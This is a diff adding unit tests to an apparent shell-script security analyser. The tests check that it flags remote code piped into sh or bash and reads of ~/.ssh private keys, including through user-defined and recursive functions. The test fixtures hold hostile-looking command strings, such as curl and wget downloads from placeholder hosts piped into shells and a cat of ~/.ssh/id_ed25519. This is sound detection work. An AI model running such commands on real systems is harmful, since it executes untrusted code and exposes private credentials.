@@ -110,3 +110,20 @@ def test_a_download_elided_to_an_ellipsis_fetches_nothing_but_an_address_beside_
     assert not analyse_file(tmp_path, "scripts/doc.sh", "curl ... | sh\nwget … -O- | bash\n", Language.SHELL)
     found = analyse_file(tmp_path, "scripts/doc.sh", "curl ... https://d.example.invalid/i | sh\n", Language.SHELL)
     assert (Kind.EXEC_FETCHED, "d.example.invalid") in summary(found)
+
+
+def test_arguments_handed_to_the_scripts_own_functions_are_followed_in(tmp_path: Path) -> None:
+    source = (
+        'get() { curl -fsSL "$1"; }\n'
+        'run() { bash -c "$1"; }\n'
+        "get https://s.example.invalid/i.sh | sh\n"
+        'run "$(get https://t.example.invalid/j.sh)"\n'
+    )
+    found = analyse_file(tmp_path, "scripts/setup.sh", source, Language.SHELL)
+    assert {d for k, d in summary(found) if k is Kind.EXEC_FETCHED} == {"s.example.invalid", "t.example.invalid"}
+
+
+def test_a_function_that_calls_itself_is_followed_once(tmp_path: Path) -> None:
+    source = 'walk() { for d in "$@"; do cat "$d"; walk "$d"/*; done; }\nwalk ~/.ssh/id_ed25519\n'
+    found = analyse_file(tmp_path, "scripts/walk.sh", source, Language.SHELL)
+    assert {d for k, d in summary(found) if k is Kind.SECRET_READ} == {"SSH keys (~/.ssh)"}
